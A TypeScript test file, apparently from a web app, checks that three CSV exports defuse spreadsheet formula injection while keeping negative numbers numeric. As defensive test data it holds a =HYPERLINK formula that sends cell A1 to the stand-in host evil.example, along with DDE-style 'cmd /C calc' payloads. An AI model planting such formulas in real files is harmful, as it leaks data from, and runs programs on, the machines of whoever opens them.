// Formula injection: a spreadsheet runs a cell that starts with =, +, -, @, a tab or a carriage return as a formula
// (=HYPERLINK(…) sends whoever clicks it elsewhere; DDE formulas ran programs). Every CSV the hub writes goes
// through one writer (app/kernel/csv.server.ts), which prefixes such text cells with a single quote (OWASP's rule),
// while real numbers — including negative ones in numeric columns — stay numbers. One test per download:
// /challenges.csv, /dashboard.csv (indicators and initiative outcomes) and /coordinate/matches/reports.csv.
import { randomUUID } from "node:crypto";
import { parse as parseCsv } from "csv-parse/sync";
import { afterAll, describe, expect, it } from "vitest";
import { loader as challengesCsvLoader } from "~/routes/challenges[.]csv.ts";
import { loader as dashboardCsvLoader } from "~/routes/dashboard[.]csv.ts";
import { loader as matchReportsCsvLoader } from "~/routes/coordinate.matches.reports[.]csv.ts";
import { prisma } from "../../app/kernel/db.server.ts";
import {
  createChallenges,
  createInitiative,
  createInitiativeOutcome,
  createMatchWithHistory,
  createPartner,
  createUser,
} from "../../prisma/seed/factories.ts";
import { loaderArgs } from "../support/requests.ts";
import { getRequest, sessionCookie } from "../support/signed-in.ts";

const marker = `数式注入試験${randomUUID().slice(0, 6)}`;
const cleanup: Array<() => Promise<unknown>> = [];

afterAll(async () => {
  for (const step of cleanup.reverse()) await step();
});

async function csvRecords(response: Response) {
  expect(response.status).toBe(200);
  return parseCsv(await response.text(), { bom: true, columns: true, relax_quotes: true }) as Array<Record<string, string>>;
}

// What a spreadsheet would run, each as the start of a challenge title.
const dangerous = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"詳しくはこちら")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

describe("/challenges.csv", () => {
  it("defuses every title that a spreadsheet would run, and keeps numbers (capacity, number) as numbers", async () => {
    const rows = await createChallenges(
      prisma,
      dangerous.map((title, index) => ({
        strategyCode: "A",
        titleJa: `${title} ${marker}`,
        summaryJa: index === 0 ? "-3" : "ふつうの要約",
        capacity: 3,
        publishedAt: new Date(),
      })),
    );
    cleanup.push(() => prisma.challenge.deleteMany({ where: { id: { in: rows.map((row) => row.id) } } }));
    const records = await csvRecords(await challengesCsvLoader(loaderArgs(`/challenges.csv?q=${encodeURIComponent(marker)}`)));
    expect(records).toHaveLength(dangerous.length);
    expect(records.map((record) => record.title_ja).sort()).toEqual(dangerous.map((title) => `'${title} ${marker}`).sort());
    for (const record of records) {
      expect(record.capacity).toBe("3");
      expect(record.number).toMatch(/^[1-9][0-9]*$/);
      // A summary that is just a negative number is a number, not a formula.
      if (record.title_ja!.includes("HYPERLINK")) expect(record.summary_ja).toBe("-3");
    }
  });
});

describe("/dashboard.csv", () => {
  it("defuses an outcome's unit written by a participant, and keeps an indicator's negative value a number", async () => {
    const author = await createUser(prisma, { email: `csv-${randomUUID().slice(0, 8)}@formula.test`, displayName: "数式試験" });
    cleanup.push(() => prisma.user.delete({ where: { id: author.id } }));
    const initiative = await createInitiative(prisma, { strategyCode: "B", titleJa: `${marker} 取り組み` });
    cleanup.push(() => prisma.initiative.delete({ where: { id: initiative.id } }));
    const unit = `=HYPERLINK("https://evil.example","人")${marker}`;
    await createInitiativeOutcome(prisma, {
      initiativeId: initiative.id,
      actorId: author.id,
      labelJa: "参加者",
      value: 12,
      unitJa: unit,
      unitEn: `@people${marker}`,
      achievedOn: new Date(),
    });
    const indicator = await prisma.planIndicator.findFirstOrThrow({ orderBy: { position: "asc" }, select: { id: true, key: true } });
    const year = 2093;
    await prisma.planIndicatorValue.create({ data: { indicatorId: indicator.id, year, value: -3 } });
    cleanup.push(() => prisma.planIndicatorValue.deleteMany({ where: { indicatorId: indicator.id, year } }));

    // A filter no other test asks for, so the dashboard's one-minute memo is read fresh.
    const records = await csvRecords(await dashboardCsvLoader(loaderArgs("/dashboard.csv?strategy=B&period=1")));
    const outcome = records.find((record) => record.dataset === "outcomes" && record.unit_ja?.includes(marker));
    expect(outcome?.unit_ja).toBe(`'${unit}`);
    expect(outcome?.unit_en).toBe(`'@people${marker}`);
    expect(outcome?.value).toBe("12");
    const negative = records.find(
      (record) => record.dataset === "indicators" && record.scope === indicator.key && record.period === String(year),
    );
    expect(negative?.value).toBe("-3");
    // Nothing a spreadsheet would run is left anywhere in the file.
    for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![0-9.])/);
  });
});

describe("/coordinate/matches/reports.csv", () => {
  it("keeps its counts and medians as plain numbers, with no formula anywhere", async () => {
    const coordinator = await createUser(prisma, {
      email: `csv-${randomUUID().slice(0, 8)}@formula.test`,
      displayName: "数式試験の調整役",
      roles: ["COORDINATOR"],
    });
    cleanup.push(() => prisma.user.delete({ where: { id: coordinator.id } }));
    // One match that went through the pipeline this year, so the report has a row with counts and medians.
    const [challenge] = await createChallenges(prisma, [{ strategyCode: "C", titleJa: `${marker} 報告`, publishedAt: new Date() }]);
    const partner = await createPartner(prisma, { kind: "ORGANISATION", displayName: `=HYPERLINK("x")${marker}` });
    const match = await createMatchWithHistory(prisma, {
      challengeId: challenge!.id,
      partnerId: partner.id,
      path: ["INTRODUCED", "AGREED"],
      startedAt: new Date(Date.now() - 3 * 24 * 60 * 60 * 1000),
      stepDays: [1, 1],
    });
    cleanup.push(async () => {
      await prisma.match.delete({ where: { id: match.id } });
      await prisma.partnerProfile.delete({ where: { id: partner.id } });
      await prisma.challenge.delete({ where: { id: challenge!.id } });
    });
    const cookie = await sessionCookie(coordinator.id);
    const response = await matchReportsCsvLoader({
      request: getRequest("/coordinate/matches/reports.csv", cookie),
      params: {},
      context: {},
    });
    const records = await csvRecords(response);
    expect(records.length).toBeGreaterThan(0);
    for (const record of records) {
      for (const [column, cell] of Object.entries(record)) {
        expect(cell).not.toMatch(/^[=+@\t\r']/);
        if (column.startsWith("reached_")) expect(cell).toMatch(/^[0-9]+$/);
        if (column.startsWith("median_days_")) expect(cell).toMatch(/^(|-?[0-9]+(\.[0-9]+)?)$/);
      }
    }
  });
});
